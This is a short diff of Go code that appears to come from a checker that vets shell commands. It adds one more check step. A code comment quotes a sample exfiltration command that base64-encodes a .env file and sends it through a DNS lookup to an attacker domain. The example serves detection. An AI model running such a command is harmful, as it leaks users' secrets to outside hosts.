@@ -680,6 +680,9 @@ func (c *checker) command(u unit) {
 	if c.adds == before {
 		c.unknownVerbs(u)
 	}
+	if c.adds == before {
+		c.hostedRemoval(u)
+	}
 	if shell.NeedsNetwork(cmd) {
 		// "dig $(cat .env | base64).attacker.example": a network command
 		// whose words carry a secret.
